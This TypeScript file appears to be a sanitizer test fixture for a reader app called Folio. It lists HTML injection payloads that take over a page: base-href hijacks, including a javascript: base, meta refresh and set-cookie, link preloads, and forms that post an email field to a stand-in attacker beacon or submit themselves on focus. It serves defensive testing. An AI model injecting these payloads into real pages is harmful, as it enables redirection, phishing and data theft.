import { casesOf } from '../article-page';
import { beaconPath, beaconUrl, canaryCall, imageUrl } from '../canary';
import type { PayloadSpec } from '../types';

/**
 * Elements that act on the whole document rather than on themselves: `<base>` (re-points every
 * relative URL, including an extension page's own scripts), `<meta http-equiv>` (refresh, cookies,
 * policies), `<link>` preloads and stylesheets, and forms that post or load images by themselves.
 */
function specs(): PayloadSpec[] {
  const list: PayloadSpec[] = [];
  const add = (suffix: string, vector: string, spec: (id: string) => Pick<PayloadSpec, 'body' | 'head' | 'placement'>) => {
    const id = `doc-${suffix}`;
    list.push({ id, vector, ...spec(id) });
  };
  add('base-body', '<base href> in the article body', (id) => ({ body: `<base href="${beaconUrl(id, 'base/')}"><p><a href="notes.html">Notes</a></p>` }));
  add('base-head', '<base href> in the page head', (id) => ({ head: `<base href="${beaconUrl(id, 'base/')}">` }));
  add('base-scheme-relative', 'scheme-relative <base>', (id) => ({ body: `<base href="${beaconPath(id, 'base/')}">` }));
  add('base-target', '<base target> hijacking link targets', () => ({ body: `<base target="folio-pwn"><p><a href="#top">Top</a></p>` }));
  add('base-javascript', '<base href> javascript:', (id) => ({ body: `<base href="javascript:${canaryCall(id).replace(/'/g, '&#39;')}//">` }));
  add('meta-refresh-body', 'meta refresh in the body', (id) => ({ body: `<meta http-equiv="refresh" content="0;url=${beaconUrl(id, 'refresh')}">` }));
  add('meta-refresh-head', 'meta refresh in the head', (id) => ({ head: `<meta http-equiv="refresh" content="0; URL='${beaconUrl(id, 'refresh')}'">` }));
  add('meta-refresh-entities', 'meta refresh with encoded http-equiv', (id) => ({ body: `<meta http-equiv="&#114;efresh" content="0;url=${beaconPath(id, 'refresh')}">` }));
  add('meta-set-cookie', 'meta set-cookie', () => ({ body: `<meta http-equiv="set-cookie" content="folio=pwned; path=/">` }));
  add('meta-csp', 'meta CSP that would break the reader', () => ({ body: `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">` }));
  add('meta-referrer', 'meta referrer unsafe-url', () => ({ body: `<meta name="referrer" content="unsafe-url">` }));
  add('link-stylesheet', 'external stylesheet link', (id) => ({ body: `<link rel="stylesheet" href="${beaconUrl(id, 'style.css')}">` }));
  add('link-prefetch', 'link rel=prefetch', (id) => ({ body: `<link rel="prefetch" href="${beaconUrl(id, 'prefetch')}">` }));
  add('link-preload', 'link rel=preload as=image', (id) => ({ body: `<link rel="preload" as="image" href="${beaconUrl(id, 'preload.png')}">` }));
  add('link-modulepreload', 'link rel=modulepreload', (id) => ({ body: `<link rel="modulepreload" href="${beaconUrl(id, 'mod.js')}">` }));
  // The page's icon is the page's to choose (Folio shows it like an article image), so it names the image host.
  add('link-icon', 'link rel=icon in the body', () => ({ body: `<link rel="icon" href="${imageUrl('icon.png')}">` }));
  add('link-import', 'HTML import', (id) => ({ body: `<link rel="import" href="${beaconUrl(id, 'import.html')}">` }));
  add('link-prerender', 'link rel=prerender', (id) => ({ body: `<link rel="prerender" href="${beaconUrl(id, 'prerender')}">` }));
  add('form-action', 'form posting to the attacker', (id) => ({ body: `<form action="${beaconUrl(id, 'post')}" method="post"><input name="email" placeholder="Email"><button>Subscribe</button></form>` }));
  add('form-input-image', 'form with an image input from the attacker', (id) => ({ body: `<form action="${beaconUrl(id, 'post')}"><input type="image" src="${beaconUrl(id, 'input.png')}" alt="Subscribe"></form>` }));
  add('form-autosubmit', 'form that submits itself on focus', (id) => ({ body: `<form id="f-${id}" action="${beaconUrl(id, 'auto')}"><input autofocus onfocus="this.form.submit();${canaryCall(id)}"></form>` }));
  add('button-formaction', 'button formaction to the attacker', (id) => ({ body: `<button form="x" formaction="${beaconUrl(id, 'formaction')}">Share</button>` }));
  add('isindex', 'legacy isindex', (id) => ({ body: `<isindex action="${beaconUrl(id, 'isindex')}" type="image" src="${imageUrl('isindex.png')}">` }));
  add('a-ping', 'hyperlink auditing ping', (id) => ({ body: `<p><a href="#more" ping="${beaconUrl(id, 'ping')}">More</a></p>` }));
  add('attributionsrc', 'attribution reporting request from an img', (id) => ({ body: `<img src="${imageUrl('ad.jpg')}" attributionsrc="${beaconUrl(id, 'attribution')}" alt="">` }));
  add('dialog-open', 'open modal dialog covering the reader', (id) => ({ body: `<dialog open><form method="dialog"><button onfocus="${canaryCall(id)}" autofocus>OK</button></form></dialog>` }));
  add('popover', 'popover attribute', (id) => ({ body: `<div popover id="p-${id}" onbeforetoggle="${canaryCall(id)}">x</div><button popovertarget="p-${id}">Open</button>` }));
  return list;
}

export const documentControlCases = casesOf('document-control', specs());
